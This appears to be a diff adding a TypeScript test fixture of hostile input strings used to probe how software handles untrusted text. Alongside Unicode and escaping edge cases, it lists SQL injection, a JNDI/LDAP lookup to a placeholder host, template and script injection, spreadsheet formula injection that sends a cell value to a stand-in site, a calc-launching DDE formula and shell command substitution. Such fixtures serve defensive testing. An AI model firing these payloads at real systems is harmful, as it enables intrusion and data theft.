@@ -1,0 +1,20 @@
+/** Texts made to break whoever handles them carelessly. None says anything about the product. */
+export const hostileTexts: readonly string[] = [
+  `'; DROP TABLE feedback_event;--`,
+  `" OR "1"="1`,
+  "${env:HOME} ${jndi:ldap://example.org/a} ${spark.sql.x}",
+  "{{job.parameters.catalog}} {{ secrets.token }} {{7*7}}",
+  "</script><script>alert(document.domain)</script>",
+  `<img src=x onerror="alert(1)"><b>bold</b>`,
+  "back\\slash \\n \\u0041 C:\\temp\\new",
+  "two\nlines\r\nand a\ttab",
+  "abc \u202Etxet desrever\u202C \u200Bzero\u200Bwidth\uFEFF",
+  "👩‍👩‍👧‍👦 🇩🇪 é é ﷽ 𝕏 ＡＢＣ",
+  `=HYPERLINK("https://kite.example/?"&A1,"click")`,
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  "$$ $tag$ ${} #{} %s %n %(x)s `id` $(id)",
+  "null NULL None NaN undefined \\N",
+  "-- /* comment */ # not a comment; 100% _ like%",
+  "a,b;c\td|e\"f'g`h",
+  "before\u0000after",
+];
